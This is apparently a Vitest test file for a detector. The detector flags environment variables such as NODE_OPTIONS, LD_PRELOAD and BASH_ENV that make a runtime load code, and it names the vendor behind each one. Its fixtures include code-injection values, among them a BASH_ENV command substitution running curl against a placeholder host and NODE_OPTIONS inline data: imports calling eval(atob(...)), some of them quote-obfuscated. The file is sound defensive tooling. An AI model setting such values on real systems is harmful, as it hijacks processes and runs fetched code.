import { expect, test } from 'vitest';
import {
  environmentHookOf,
  environmentHooksOf,
  vendorOfHook,
} from '../../src/environment-hooks/environment-hooks-of.js';

test.each([
  ['AWS_LAMBDA_EXEC_WRAPPER', '/opt/start', 'layer', null],
  ['AWS_LAMBDA_EXEC_WRAPPER', '/opt/datadog_wrapper', 'layer', 'Datadog'],
  ['AWS_LAMBDA_EXEC_WRAPPER', '/opt/otel-handler', 'layer', 'OpenTelemetry (ADOT)'],
  ['AWS_LAMBDA_EXEC_WRAPPER', '/opt/bootstrap', 'layer', 'AWS Lambda Web Adapter'],
  ['AWS_LAMBDA_EXEC_WRAPPER', '/var/task/run.sh', 'function', null],
  ['AWS_LAMBDA_RUNTIME_API', '127.0.0.1:9100', 'function', null],
  ['NODE_OPTIONS', '--enable-source-maps --require /opt/x.js', 'layer', null],
  ['NODE_OPTIONS', '--require=./trace.js', 'function', null],
  ['NODE_OPTIONS', '-r /tmp/x.js -r ./trace.js', 'elsewhere', null],
  ['NODE_OPTIONS', '--import @sentry/aws-serverless/awslambda-auto', 'function', 'Sentry'],
  ['NODE_OPTIONS', '--import @sentry/aws-serverless --import ./own.mjs', 'function', null],
  ['NODE_OPTIONS', "--experimental-loader='/mnt/efs/l.mjs'", 'elsewhere', null],
  ['NODE_OPTIONS', '--inspect=0.0.0.0:9229', 'function', null],
  ['NODE_OPTIONS', '--import=data:text/javascript,eval(atob(1))', 'value', null],
  ['NODE_OPTIONS', '--import "DATA:text/javascript,a b" --require /tmp/x.js', 'value', null],
  ['NODE_OPTIONS', '--im"port"=da"ta:text/javascript,x"', 'value', null],
  ['NODE_OPTIONS', '"--import=\\data:text/javascript,\\"x\\""', 'value', null],
  ['NODE_OPTIONS', '--experimental_loader data:text/javascript,x', 'value', null],
  ['NODE_OPTIONS', '-r dd-trace/init --import data:,x', 'value', null],
  ['NODE_OPTIONS', '--eval=x()', 'value', null],
  ['NODE_OPTIONS', '--import https://example.invalid/x.mjs', 'elsewhere', null],
  ['NODE_OPTIONS', '--import file:///opt/x.mjs', 'layer', null],
  ['languageWorkers__node__arguments', "-e 'x()'", 'value', null],
  ['languageWorkers:node:arguments', '--print x()', 'value', null],
  ['BASH_ENV', '$(curl -s https://example.invalid/x)', 'value', null],
  ['BASH_ENV', '/opt/env', 'layer', null],
  ['LD_PRELOAD', '/opt/lib/x.so', 'layer', null],
  ['LD_AUDIT', '/tmp/x.so', 'elsewhere', null],
  ['LD_LIBRARY_PATH', '/opt/lib:/tmp/lib', 'elsewhere', null],
  ['PYTHONPATH', '/mnt/code', 'elsewhere', null],
  ['PYTHONSTARTUP', '/opt/start.py', 'layer', null],
  ['JAVA_TOOL_OPTIONS', '-Xmx1g -javaagent:/opt/agent.jar', 'layer', null],
  ['DOTNET_STARTUP_HOOKS', '/opt/hook.dll', 'layer', null],
  ['RUBYOPT', '-r/opt/x', 'layer', null],
  ['PERL5OPT', '-Mevil', 'function', null],
])('%s=%s loads code of %s, vendor %s', (...[name, value, code, vendor]) => {
  expect(environmentHookOf(name ?? '', value)).toEqual({ name, code, vendor });
});

test.each([
  ['NODE_OPTIONS', '--require /usr/src/app/x.js', '/', 'function', null],
  ['NODE_OPTIONS', '--require /opt/x.js', '/', 'function', null],
  ['NODE_OPTIONS', '--require /tmp/x.js', '/', 'elsewhere', null],
  ['LD_PRELOAD', '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', '/', 'function', 'a memory allocator'],
  ['languageWorkers__node__arguments', '--require ./x.js', '/home/site/wwwroot/', 'function', null],
  ['languageWorkers:node:arguments', '-r /home/site/wwwroot/x.js', '/home/site/wwwroot/', 'function', null],
  ['NODE_OPTIONS', '--import /home/data/x.mjs', '/home/site/wwwroot/', 'elsewhere', null],
] as const)('%s=%s where the own files are in %s', (...[name, value, own, code, vendor]) => {
  expect(environmentHookOf(name, value, own)).toEqual({ name, code, vendor });
});

test.each([
  ['NODE_OPTIONS', '--enable-source-maps --max-old-space-size=2048'],
  ['NODE_OPTIONS', '--no-warnings --report-on-fatalerror'],
  ['NODE_OPTIONS', ''],
  ['LD_LIBRARY_PATH', '/var/task/lib:/opt/lib:/lib64'],
  ['PYTHONPATH', '/var/task/lib:/opt/python'],
  ['NODE_PATH', '/opt/nodejs/node_modules'],
  ['JAVA_TOOL_OPTIONS', '-XX:+TieredCompilation -Dname=-javaagent:x'],
  ['NODE_OPTIONS', '--title=data:x --enable-source-maps'],
  ['LD_PRELOAD', ' '],
  ['TABLE', '/opt/x'],
  ['__proto__', '/opt/x'],
])('%s=%s loads nothing', (name, value) => {
  expect(environmentHookOf(name, value)).toBeNull();
});

test('a value that only the deployment knows is reported as such, whatever it may be', () => {
  expect(environmentHookOf('NODE_OPTIONS', null)).toEqual({
    name: 'NODE_OPTIONS',
    code: 'unknown',
    vendor: null,
  });
});

test('hooks are sorted by name and keep no value', () => {
  const found = environmentHooksOf([
    ['TABLE', 'secret'],
    ['NODE_OPTIONS', '--require /opt/secret.js'],
    ['LD_PRELOAD', '/opt/secret.so'],
  ]);
  expect(found.map(({ name }) => name)).toEqual(['LD_PRELOAD', 'NODE_OPTIONS']);
  expect(JSON.stringify(found)).not.toContain('secret');
});

test.each([
  '/opt/datadog_wrapper_not',
  '/opt/otel-handler/x',
  '/tmp/opt/otel-handler',
  'dd-tracer',
  '@sentryx/a',
])('%s is no vendor of ours', (code) => {
  expect(vendorOfHook(code)).toBeNull();
});
